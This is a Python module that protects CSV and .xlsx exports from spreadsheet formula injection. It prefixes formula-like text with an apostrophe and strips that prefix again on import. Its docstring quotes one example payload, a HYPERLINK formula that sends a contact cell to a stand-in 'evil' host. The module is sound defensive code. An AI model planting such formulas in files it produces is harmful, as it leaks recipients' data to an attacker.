"""The one guard every CSV and .xlsx export puts on the text it writes (spreadsheet formula injection).

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is run by
Excel, WPS and LibreOffice as a formula: a demand title ``=HYPERLINK("http://evil/?"&G2, …)`` written raw
beside a contact column leaks that contact when the recipient opens the file. Exports therefore write such
text with a leading apostrophe, which spreadsheets show as text; the directory's importer removes it
again (:func:`unguard`), so an exported file still imports back unchanged.

CSV exports write through :class:`GuardedCSVWriter`; .xlsx exports store text cells with
``cell.data_type = "s"`` (a string cell is never evaluated), as the directory's exporter does.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")  # text a spreadsheet would run as a formula


def guard(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: formula-like text gets a leading apostrophe; numbers,
    dates and ``None`` pass unchanged (they are written as numbers, never as formulas)."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADERS):
        return f"'{value}"
    return value


def guarded_text(value: Any) -> str:
    """``value`` as the text of a cell (``None`` as empty), formula-like text guarded as :func:`guard` does."""
    return guard("" if value is None else str(value))


def unguard(text: str) -> str:
    """The text an export wrote, with the guard's apostrophe removed (for importing an export back)."""
    if text[:1] == "'" and text[1:2] in FORMULA_LEADERS:
        return text[1:]
    return text


def guarded_row(values: Iterable[Any]) -> list[Any]:
    return [guard(value) for value in values]


class GuardedCSVWriter:
    """``csv.writer`` whose every row goes through :func:`guard`, so no export can forget it."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(guarded_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)
